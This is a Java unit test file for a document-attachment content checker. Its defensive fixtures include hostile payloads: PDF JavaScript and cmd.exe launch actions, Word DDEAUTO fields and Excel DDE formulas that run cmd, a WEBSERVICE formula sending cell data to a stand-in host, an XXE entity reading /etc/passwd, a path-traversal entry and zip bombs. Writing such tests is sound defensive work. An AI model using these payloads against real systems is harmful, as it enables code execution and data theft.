package cn.gov.shuozhou.data.casework.attachment.content;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatCode;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import cn.gov.shuozhou.data.refusal.RequestRejected;
import java.awt.image.BufferedImage;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.stream.Collectors;
import java.util.stream.Stream;
import javax.imageio.ImageIO;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

@DisplayName("附件按内容判断，不收能自己动起来的东西")
class ContentCheckTest {

    private static final String GO_TO_PAGE = "<< /S /GoTo /D [3 0 R /Fit] >>";

    private static void accepted(FileFormat format, byte[] content) {
        assertThatCode(() -> ContentCheck.require(format, "附件", content)).doesNotThrowAnyException();
    }

    private static void refused(FileFormat format, byte[] content, String sentence) {
        assertThatThrownBy(() -> ContentCheck.require(format, "附件", content))
                .isInstanceOfSatisfying(RequestRejected.class, refusal -> {
                    assertThat(refusal.kind()).isEqualTo(RequestRejected.Kind.INVALID);
                    assertThat(refusal).hasMessageContaining("“附件”").hasMessageContaining(sentence);
                });
    }

    private static byte[] image(String format) throws IOException {
        var bytes = new ByteArrayOutputStream();
        ImageIO.write(new BufferedImage(30, 20, BufferedImage.TYPE_INT_RGB), format, bytes);
        return bytes.toByteArray();
    }

    @Test
    @DisplayName("六种格式各一份正常的：收")
    void theSixFormats() throws IOException {
        accepted(FileFormat.PDF, Pdf.plain());
        accepted(FileFormat.OFD, Zipped.ofd().bytes());
        accepted(FileFormat.DOCX, Zipped.docx().bytes());
        accepted(FileFormat.XLSX, Zipped.xlsx().bytes());
        accepted(FileFormat.PNG, image("png"));
        accepted(FileFormat.JPG, image("jpg"));
    }

    @Test
    @DisplayName("扩展名与内容不符：每一对都指出")
    void falseExtensions() throws IOException {
        var contents = new byte[][] {
            Pdf.plain(),
            Zipped.ofd().bytes(),
            Zipped.docx().bytes(),
            Zipped.xlsx().bytes(),
            image("png"),
            image("jpg")
        };
        for (var format : FileFormat.values()) {
            for (int other = 0; other < contents.length; other++) {
                if (other != format.ordinal()) {
                    refused(format, contents[other], "的内容不是");
                }
            }
            refused(format, "MZ\u0090 This program cannot be run".getBytes(StandardCharsets.ISO_8859_1), "认不出");
            refused(format, new byte[] {0}, "认不出");
        }
    }

    @Test
    @DisplayName("旧格式或加密的 Office 文件：说明怎么办")
    void oldOrEncryptedOfficeFiles() {
        byte[] old = {(byte) 0xd0, (byte) 0xcf, 0x11, (byte) 0xe0, (byte) 0xa1, (byte) 0xb1, 0x1a, (byte) 0xe1};
        refused(FileFormat.DOCX, old, "打开口令");
    }

    static Stream<Arguments> activePdfs() {
        return Stream.of(
                Arguments.of("脚本", Pdf.with("/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"), "脚本"),
                Arguments.of("名称转义的脚本", Pdf.with("/OpenAction << /S /J#61vaScript /J#53 (x) >>"), "脚本"),
                Arguments.of(
                        "压缩对象流中的脚本", Pdf.with("/OpenAction 5 0 R").packed(5, "<< /S /JavaScript /JS (x) >>"), "脚本"),
                Arguments.of("压缩对象流中只有 JS", Pdf.with("").packed(5, "<< /S /Rendering /JS 6 0 R >>"), "脚本"),
                Arguments.of(
                        "没写类型的对象流",
                        Pdf.with("").stream(
                                "/N 1 /First 4 /Filter [/FlateDecode]",
                                Pdf.deflated("5 0 << /JS (x) >>".getBytes(StandardCharsets.US_ASCII))),
                        "脚本"),
                Arguments.of("藏在没有配对的括号后面", Pdf.with("").add("( never closed\n").packed(5, "<< /JS (x) >>"), "脚本"),
                Arguments.of("藏在注释里的对象", Pdf.with("").add("% 7 0 obj << /AA << /O 8 0 R >> >> endobj\n"), "自动执行"),
                Arguments.of(
                        "藏在流里的对象",
                        Pdf.with("").stream(
                                "", "7 0 obj << /S /Launch /F (calc) >>".getBytes(StandardCharsets.US_ASCII)),
                        "启动程序"),
                Arguments.of("启动程序", Pdf.with("").add("5 0 obj << /S /Launch /F (cmd.exe) >> endobj\n"), "启动程序"),
                Arguments.of("嵌入文件", Pdf.with("/Names << /EmbeddedFiles 5 0 R >>"), "其他文件"),
                Arguments.of("嵌入文件流", Pdf.with("").stream("/Type /EmbeddedFile", new byte[9]), "其他文件"),
                Arguments.of("多媒体", Pdf.with("").add("5 0 obj << /Subtype /RichMedia >> endobj\n"), "多媒体"),
                Arguments.of("附加动作", Pdf.with("/AA << /WC 5 0 R >>"), "自动执行"),
                Arguments.of("动态表单", Pdf.with("/AcroForm << /XFA 5 0 R >>"), "XFA"),
                Arguments.of("提交表单", Pdf.with("").add("5 0 obj << /S /SubmitForm >> endobj\n"), "自动提交"),
                Arguments.of("打开即访问网址", Pdf.with("/OpenAction << /S /URI /URI (http://x) >>"), "打开时"),
                Arguments.of(
                        "打开即执行别处的动作",
                        Pdf.with("/OpenAction 5 0 R").add("5 0 obj << /S /URI /URI (x) >> endobj\n"),
                        "打开时"),
                Arguments.of("打开时执行找不到的动作", Pdf.with("/OpenAction 55 0 R"), "打开时"),
                Arguments.of(
                        "根对象直接写在文件尾",
                        Pdf.with("").add("trailer << /Root << /OpenAction << /S /JavaScript >> >> >>\n"),
                        "脚本"),
                Arguments.of(
                        "藏在多余的右括号后面", Pdf.with("").add("5 0 obj << /Type ] /Action /S /JavaScript >> endobj\n"), "脚本"),
                Arguments.of(
                        "对象流的开头读不懂",
                        Pdf.with("").stream(
                                "/Type /ObjStm /N 1 /First 5 /Filter /FlateDecode",
                                Pdf.deflated("+5 0 << /JS (x) >>".getBytes(StandardCharsets.US_ASCII))),
                        "脚本"),
                Arguments.of(
                        "对象流的开头读不懂，里面也没有什么",
                        Pdf.with("").stream(
                                "/Type /ObjStm /N 1 /First 5 /Filter /FlateDecode",
                                Pdf.deflated("+5 0 << /Title (x) >>".getBytes(StandardCharsets.US_ASCII))),
                        "不能检查"),
                Arguments.of("加密", Pdf.with("").add("trailer << /Encrypt 5 0 R >>\n"), "加密"),
                Arguments.of(
                        "不能检查的对象流",
                        Pdf.with("").stream(
                                "/Type /ObjStm /N 1 /First 4 /Filter [/ASCIIHexDecode /FlateDecode]", new byte[9]),
                        "不能检查"),
                Arguments.of(
                        "对象流解不开",
                        Pdf.with("").stream("/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode", new byte[9]),
                        "不能检查"),
                Arguments.of("带预测的对象流", Pdf.with("").packed(5, "<< >>", "/DecodeParms << /Predictor 12 >>"), "不能检查"),
                Arguments.of(
                        "压缩炸弹",
                        Pdf.with("").stream(
                                "/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode", Pdf.deflated(new byte[80 << 20])),
                        "解压后过大"));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("activePdfs")
    @DisplayName("PDF 里的脚本、动作、文件、加密、炸弹：拒绝并说明")
    void activePdf(String what, Pdf pdf, String sentence) {
        refused(FileFormat.PDF, pdf.bytes(), sentence);
    }

    @Test
    @DisplayName("打开时只是翻到某一页的 PDF：收，写在对象流里的也一样")
    void openingAtAPage() {
        accepted(FileFormat.PDF, Pdf.with("/OpenAction " + GO_TO_PAGE).bytes());
        accepted(
                FileFormat.PDF,
                Pdf.with("/OpenAction 5 0 R")
                        .add("5 0 obj " + GO_TO_PAGE + " endobj\n")
                        .bytes());
        accepted(
                FileFormat.PDF,
                Pdf.with("/OpenAction 5 0 R").packed(5, GO_TO_PAGE).bytes());
        accepted(
                FileFormat.PDF,
                Pdf.with("/OpenAction 5 0 R")
                        .packed(5, "[3 0 R /XYZ null null 0]")
                        .bytes());
    }

    @Test
    @DisplayName("带链接、书签、签名和大幅扫描图的 PDF：收")
    void usualPdf() {
        accepted(FileFormat.PDF, Pdf.ofAbout(3 << 20));
        accepted(
                FileFormat.PDF,
                Pdf.with("/Outlines << /First 4 0 R /Last 4 0 R >> /AcroForm << /SigFlags 3 >>")
                        .add(
                                "5 0 obj << /Subtype /Link /A << /S /URI /URI (https://example.gov.cn/JS/AA) >> >> endobj\n")
                        .add("6 0 obj << /Type /Sig /ByteRange [0 1 2 3] /Contents <308201> >> endobj\n")
                        .bytes());
    }

    static Stream<Arguments> pdfsThatOnlySpeakOfIt() {
        return Stream.of(
                Arguments.of(
                        "页面的文字",
                        Pdf.with("").stream(
                                "", "BT (/JavaScript /Launch /AA) Tj ET".getBytes(StandardCharsets.US_ASCII))),
                Arguments.of(
                        "网址",
                        Pdf.with("").add("5 0 obj << /A << /S /URI /URI (https://x.cn/JavaScript) >> >> endobj\n")),
                Arguments.of("对象流里的书签", Pdf.with("").packed(5, "<< /Title (PDF /JavaScript /EmbeddedFile) >>")),
                Arguments.of(
                        "元数据",
                        Pdf.with("").stream(
                                "/Type /Metadata /Subtype /XML",
                                "<dc:title>/SubmitForm /Encrypt /JS</dc:title>".getBytes(StandardCharsets.US_ASCII))));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("pdfsThatOnlySpeakOfIt")
    @DisplayName("只是文字里提到脚本的 PDF：收")
    void pdfThatOnlySpeaksOfIt(String what, Pdf pdf) {
        accepted(FileFormat.PDF, pdf.bytes());
    }

    @Test
    @DisplayName("没有下载完的 PDF、套了几百万层的 PDF：拒绝，不拖住系统")
    void brokenPdf() {
        refused(FileFormat.PDF, Arrays.copyOf(Pdf.plain(), 120), "不完整");
        refused(FileFormat.PDF, Pdf.with("").add(" obj[".repeat(2_000_000)).bytes(), "过于复杂");
        refused(FileFormat.PDF, Pdf.with("").add(" obj(".repeat(2_000_000)).bytes(), "过于复杂");
    }

    @ParameterizedTest(name = "{0}")
    @CsvSource({
        "word/vbaProject.bin, 宏",
        "word/activeX/activeX1.xml, 宏",
        "word\\vbaData.xml, 宏",
        "word/embeddings/oleObject1.bin, 嵌入",
        "word/embeddings/Microsoft_Excel_Sheet1.xlsx, 嵌入",
        "xl/externalLinks/externalLink1.xml, 嵌入",
        "xl/connections.xml, 数据连接",
        "../../etc/cron.d/x, 越界"
    })
    @DisplayName("docx 里多出来的部分：拒绝并说明")
    void activeParts(String part, String sentence) {
        refused(FileFormat.DOCX, Zipped.docx().with(part, "x").bytes(), sentence);
    }

    @ParameterizedTest(name = "{0}")
    @ValueSource(
            strings = {
                "wordprocessingml.document.main+xml\"/><Override PartName=\"/a.xml\" ContentType=\"application/vnd.ms-office.vba&#80;roject",
                "wordprocessingml.document.main+xml\"/><Override PartName=\"/a.xml\" ContentType=\"application/vnd.ms-word.document.macroEnabled.main+xml"
            })
    @DisplayName("改了名字的宏：从声明的类型认出")
    void macrosUnderAnotherName(String types) {
        refused(FileFormat.DOCX, Zipped.docxOfType(types).bytes(), "宏");
    }

    @ParameterizedTest(name = "{0}")
    @CsvSource({
        "attachedTemplate, http://x/t.dotm, External, 外部模板",
        "image, file://server/x.png, external, 外部的图片",
        "oleObject, x.bin, '', 嵌入",
        "vbaProject, x.bin, '', 宏",
        "aFChunk, x.rtf, '', 嵌入"
    })
    @DisplayName("docx 引用的外部内容和改了名的对象：从关系认出")
    void activeRelations(String kind, String target, String mode, String sentence) {
        refused(FileFormat.DOCX, Zipped.docxRelatedTo(kind, target, mode).bytes(), sentence);
    }

    private static final String WORD =
            "<w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\""
                    + " xmlns:m=\"http://schemas.openxmlformats.org/officeDocument/2006/math\">%s</w:document>";

    private static String field(String... parts) {
        return WORD.formatted("<w:fldChar w:fldCharType=\"begin\"/>"
                + Stream.of(parts)
                        .map("<w:instrText>%s</w:instrText>"::formatted)
                        .collect(Collectors.joining())
                + "<w:fldChar w:fldCharType=\"separate\"/><w:t>！</w:t><w:fldChar w:fldCharType=\"end\"/>");
    }

    static Stream<Arguments> ddeFields() {
        return Stream.of(
                Arguments.of("word/document.xml", field(" DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\" ")),
                Arguments.of("word/document.xml", field("dde", " Excel Sheet1 R1C1")),
                Arguments.of("word/document.xml", field(" DD", "EAU", "TO cmd")),
                Arguments.of("word/document.xml", field(" &#x44;DEAUTO cmd")),
                Arguments.of("word/header1.xml", WORD.formatted("<w:fldSimple w:instr=\" DDEAUTO cmd \"/>")),
                Arguments.of(
                        "word/footnotes.xml",
                        WORD.formatted("<w:fldChar w:fldCharType=\"begin\"/><w:instrText>IF 1=1 </w:instrText>"
                                + "<w:fldChar w:fldCharType=\"begin\"/><w:instrText>DDE x</w:instrText>")),
                Arguments.of("word/theme.bin", field("DDEAUTO cmd")));
    }

    @ParameterizedTest(name = "{0} {1}")
    @MethodSource("ddeFields")
    @DisplayName("docx 的 DDE 域，拆开的、转义的、在页眉脚注里的、部分改了名的：拒绝并说明怎么办")
    void ddeFields(String part, String text) {
        refused(FileFormat.DOCX, Zipped.docx().with(part, text).bytes(), "DDE");
    }

    @ParameterizedTest(name = "{0}")
    @CsvSource(delimiter = '!', quoteCharacter = '`', textBlock = """
            xl/worksheets/sheet1.xml ! <c><f>cmd|'/c calc'&#33;A0</f></c>                        ! DDE
            xl/worksheets/sheet1.xml ! <c><f>IF(1,"a|b",'cmd'|'/c calc'&#33;A0)</f></c>          ! DDE
            xl/workbook.xml          ! <definedName name="x">cmd|'/c'&#33;A0</definedName>       ! DDE
            xl/worksheets/sheet1.xml ! <c><f>_xlfn.WEBSERVICE("http://x/?"&amp;A1)</f></c>      ! WEBSERVICE
            xl/worksheets/sheet1.xml ! <c><f>LEN( webservice (A1))</f></c>                      ! WEBSERVICE
            xl/worksheets/sheet2.xml ! <cfRule><formula>_xlfn.IMAGE("http://x")</formula></cfRule>  ! 从外部取数
            xl/worksheets/sheet2.xml ! <dataValidation><formula1>RTD("p",,"x")</formula1></dataValidation> ! 从外部取数
            xl/worksheets/_rels/sheet1.xml.rels ! <Relationship Type="http://x/relationships/externalLink" Target="a.xml"/> ! 外部链接
            xl/worksheets/_rels/sheet1.xml.rels ! <Relationship Type="http://x/relationships/connections" Target="a.xml"/> ! 数据连接
            """)
    @DisplayName("xlsx 的 DDE 公式、取数公式、外部链接、改了名的数据连接：拒绝并说明怎么办")
    void fetchingFormulas(String part, String text, String sentence) {
        refused(FileFormat.XLSX, Zipped.xlsx().with(part, "<x>" + text + "</x>").bytes(), sentence);
    }

    @Test
    @DisplayName("普通的域、公式和数学公式，只是文字里提到 DDE 的：收")
    void usualFieldsAndFormulas() {
        accepted(
                FileFormat.DOCX,
                Zipped.docx()
                        .with("word/document.xml", field(" PAGE \\* MERGEFORMAT "))
                        .with(
                                "word/header1.xml",
                                WORD.formatted("<w:t>DDEAUTO 是什么</w:t><w:fldSimple w:instr=\"DATE\"/>"))
                        .with("word/footer1.xml", WORD.formatted("<m:f><m:num>|x|</m:num></m:f>"))
                        .with("word/media/image1.jpeg", new byte[] {(byte) 0xff, (byte) 0xd8, (byte) 0xff, 0, 1})
                        .with("word/vmlDrawing1.vml", "<xml><br></xml>")
                        .bytes());
        accepted(
                FileFormat.XLSX,
                Zipped.xlsx()
                        .with(
                                "xl/worksheets/sheet1.xml",
                                "<s><c><f>SUM('a|b'!A1:A9)&amp;\"x|WEBSERVICE(\"</f></c><c><t>WEBSERVICE(1)|</t></c></s>")
                        .bytes());
    }

    @Test
    @DisplayName("普通的网页链接：收")
    void hyperlinks() {
        accepted(
                FileFormat.DOCX,
                Zipped.docxRelatedTo("hyperlink", "https://example.gov.cn", "External")
                        .bytes());
    }

    @Test
    @DisplayName("docx 里的炸弹、几千个部分、重复的部分、外部实体、残缺：拒绝")
    void brokenOffice() {
        refused(FileFormat.DOCX, Zipped.bomb(), "解压后过大");
        var many = Zipped.docx();
        for (int part = 0; part < 2_001; part++) {
            many.with("word/p" + part, "");
        }
        refused(FileFormat.DOCX, many.bytes(), "过多");
        refused(FileFormat.DOCX, Zipped.docx().with("WORD/Document.xml", "x").bytes(), "重复");
        refused(
                FileFormat.DOCX,
                Zipped.docx()
                        .with(
                                "[Content_Types].xml",
                                "<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;</a>")
                        .bytes(),
                "不正常");
        byte[] whole = Zipped.docx().bytes();
        refused(FileFormat.DOCX, Arrays.copyOf(whole, whole.length - 30), "打不开");
    }

    @Test
    @DisplayName("OFD 里嵌着能运行的文件：拒绝；嵌着 XML 的电子发票：收")
    void ofdWithFiles() {
        refused(FileFormat.OFD, Zipped.ofd().with("Doc_0/Attachs/run.exe", "MZ").bytes(), "可能运行");
        accepted(
                FileFormat.OFD,
                Zipped.ofd().with("Doc_0/Attachs/original_invoice.xml", "<x/>").bytes());
        refused(
                FileFormat.OFD,
                Zipped.ofd().with("Doc_0/Res/image.bmp", new byte[100 << 20]).bytes(),
                "解压后过大");
    }

    @Test
    @DisplayName("图片的像素超限、头部损坏：拒绝")
    void images() throws IOException {
        byte[] huge = image("png");
        ByteBuffer.wrap(huge).putInt(16, 60_000).putInt(20, 60_000);
        refused(FileFormat.PNG, huge, "像素");
        refused(FileFormat.PNG, Arrays.copyOf(image("png"), 12), "打不开");
        refused(FileFormat.JPG, new byte[] {(byte) 0xff, (byte) 0xd8, (byte) 0xff, 0, 0}, "打不开");
    }
}
